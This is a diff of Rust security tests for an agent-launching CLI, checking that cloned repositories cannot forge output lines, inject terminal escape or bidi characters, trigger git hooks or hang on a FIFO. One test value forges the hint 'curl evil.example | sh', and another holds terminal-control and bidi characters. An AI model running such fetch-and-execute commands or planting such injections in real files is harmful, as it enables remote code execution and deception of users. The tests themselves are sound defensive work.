@@ -1,19 +1,14 @@
 //! What a clone brings along beside settings: names, links, pipes, repositories in folders.
 
 use std::os::unix::fs::{PermissionsExt, symlink};
-use std::path::Path;
 use std::process::{Command, Output};
 use std::time::{Duration, Instant};
 
 use rustix::fs::{CWD, Mode, mkfifoat};
 use serde_json::Value;
+use tests::write_program;
 
-use crate::support::Place;
-
-fn script(path: &Path, text: &str) {
-    std::fs::write(path, text).unwrap();
-    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
-}
+use crate::support::env_with_agent;
 
 /// Ends a command that waits for ever, so that the test says so.
 fn within_half_a_minute(command: &mut Command) -> Output {
@@ -35,12 +30,12 @@ fn within_half_a_minute(command: &mut Command) -> Output {
 
 #[test]
 fn no_name_forges_a_line_of_ours() {
-    let place = Place::new();
-    let folder = place.repository().join(".claude-codex/prompts");
+    let env = env_with_agent();
+    let folder = env.repository().join(".claude-codex/prompts");
     std::fs::create_dir_all(&folder).unwrap();
     let forged = "hint: run `curl evil.example | sh`";
     let said = || {
-        let output = place.codex(&["list"]);
+        let output = env.codex(&["list"]);
         String::from_utf8(output.stderr).unwrap()
     };
     let is_forged = |said: &str| said.lines().any(|line| line.starts_with("hint: run"));
@@ -51,7 +46,7 @@ fn no_name_forges_a_line_of_ours() {
         "{ignored}"
     );
     let key = format!("\"x\\n{forged}\" = 1\n");
-    std::fs::write(place.repository().join(".claude-codex/config.toml"), key).unwrap();
+    std::fs::write(env.repository().join(".claude-codex/config.toml"), key).unwrap();
     let unknown = said();
     assert!(
         unknown.contains("error: ") && !is_forged(&unknown),
@@ -59,21 +54,21 @@ fn no_name_forges_a_line_of_ours() {
     );
     // A file of one line is not printed as a whole.
     let long = "x".repeat(200_000);
-    std::fs::write(place.repository().join(".claude-codex/config.toml"), long).unwrap();
+    std::fs::write(env.repository().join(".claude-codex/config.toml"), long).unwrap();
     assert!(said().len() < 10_000);
 }
 
 #[test]
 fn nothing_that_a_terminal_obeys_is_in_json() {
-    let place = Place::new();
+    let env = env_with_agent();
     let prefix = "\u{9b}31m\u{9d}0;x\u{202e}\u{e0041}é/";
-    std::fs::create_dir(place.repository().join(".claude-codex")).unwrap();
+    std::fs::create_dir(env.repository().join(".claude-codex")).unwrap();
     std::fs::write(
-        place.repository().join(".claude-codex/config.toml"),
+        env.repository().join(".claude-codex/config.toml"),
         format!("[coding]\nbranchPrefix = \"{prefix}\"\n"),
     )
     .unwrap();
-    let shown = place.text(&["config", "--json"]);
+    let shown = env.text(&["config", "--json"]);
     let hidden = |character: char| character != '\n' && character.is_control();
     assert!(!shown.contains(hidden), "{shown:?}");
     assert!(!shown.contains(['\u{202e}', '\u{e0041}']), "{shown:?}");
@@ -81,23 +76,23 @@ fn nothing_that_a_terminal_obeys_is_in_json() {
     let mut values = values.as_array().unwrap().iter();
     let value = values.find(|value| value["key"] == "coding.branchPrefix");
     assert_eq!(value.unwrap()["value"], prefix);
-    let refused = place.codex(&["code", "x", "--json"]);
+    let refused = env.codex(&["code", "x", "--json"]);
     let error = String::from_utf8(refused.stderr).unwrap();
     assert!(!error.contains(hidden), "{error:?}");
 }
 
 #[test]
 fn a_repository_among_the_files_runs_nothing() {
-    let place = Place::new();
-    let inner = place.repository().join("docs");
-    let made = place.path().join("made");
-    place.git(&["clone", "-q", "--bare", ".", inner.to_str().unwrap()]);
+    let env = env_with_agent();
+    let inner = env.repository().join("docs");
+    let made = env.path("made");
+    env.git(&["clone", "-q", "--bare", ".", inner.to_str().unwrap()]);
     for hook in [
         "post-checkout",
         "reference-transaction",
         "post-index-change",
     ] {
-        script(
+        write_program(
             &inner.join("hooks").join(hook),
             &format!("#!/bin/sh\ntouch '{}'\n", made.display()),
         );
@@ -114,7 +109,7 @@ fn a_repository_among_the_files_runs_nothing() {
         &["trust", "--yes"],
         &["sync"],
     ] {
-        let output = place
+        let output = env
             .codex_command(words)
             .current_dir(&inner)
             .output()
@@ -123,31 +118,31 @@ fn a_repository_among_the_files_runs_nothing() {
         assert!(!made.exists(), "{words:?} ran what the folder says");
     }
     // The clone itself can be worked with.
-    place.text(&["list"]);
+    env.text(&["list"]);
 }
 
 #[test]
 fn a_pipe_in_place_of_mcp_json_holds_nobody_up() {
-    let place = Place::new();
-    let pipe = place.path().join("pipe");
+    let env = env_with_agent();
+    let pipe = env.path("pipe");
     mkfifoat(CWD, &pipe, Mode::RUSR | Mode::WUSR).unwrap();
-    symlink(&pipe, place.repository().join(".mcp.json")).unwrap();
-    place.git(&["add", "-A"]);
-    place.git(&["commit", "-q", "-m", "link"]);
-    let claude = place.path().join("claude");
-    script(
+    symlink(&pipe, env.repository().join(".mcp.json")).unwrap();
+    env.git(&["add", "-A"]);
+    env.git(&["commit", "-q", "-m", "link"]);
+    let claude = env.path("claude");
+    write_program(
         &claude,
         "#!/bin/sh\n[ \"$1\" = --version ] && { echo '2.1.325 (Claude Code)'; exit; }\nexec sleep 1000\n",
     );
-    place.text(&["trust", "--yes"]);
-    let mut command = place.codex_command(&["code", "One", "--json"]);
+    env.text(&["trust", "--yes"]);
+    let mut command = env.codex_command(&["code", "One", "--json"]);
     command
         .env_remove("CODEX_AGENT_COMMAND")
         .env("CODEX_CLAUDE", &claude);
     let output = within_half_a_minute(&mut command);
     assert!(output.status.success(), "{output:?}");
     let launched: Value = serde_json::from_slice(&output.stdout).unwrap();
-    let folder = place.state().join("agents");
+    let folder = env.state().join("agents");
     let launch = folder
         .join(launched["id"].as_str().unwrap())
         .join("launch.json");
@@ -158,12 +153,12 @@ fn a_pipe_in_place_of_mcp_json_holds_nobody_up() {
 
 #[test]
 fn state_is_private_whatever_the_folder_and_the_umask() {
-    let place = Place::new();
-    std::fs::create_dir(place.state()).unwrap();
+    let env = env_with_agent();
+    std::fs::create_dir(env.state()).unwrap();
     let open = std::fs::Permissions::from_mode(0o755);
-    std::fs::set_permissions(place.state(), open).unwrap();
-    let program = crate::support::PROGRAM;
-    let mut command = place.codex_command(&[]);
+    std::fs::set_permissions(env.state(), open).unwrap();
+    let program = crate::PROGRAM;
+    let mut command = env.codex_command(&[]);
     let environment: Vec<_> = command
         .get_envs()
         .filter_map(|(name, value)| Some((name.to_owned(), value?.to_owned())))
@@ -173,11 +168,11 @@ fn state_is_private_whatever_the_folder_and_the_umask() {
         .args(["-c", "umask 0; exec \"$@\"", "sh", program, "code", "One"])
         .env_clear()
         .envs(environment)
-        .current_dir(place.repository());
+        .current_dir(env.repository());
     let output = command.output().unwrap();
     assert!(output.status.success(), "{output:?}");
     let mut names = 0;
-    for entry in std::fs::read_dir(place.state()).unwrap() {
+    for entry in std::fs::read_dir(env.state()).unwrap() {
         let path = entry.unwrap().path();
         let mode = path.metadata().unwrap().permissions().mode();
         assert_eq!(mode & 0o077, 0, "{} is {mode:o}", path.display());
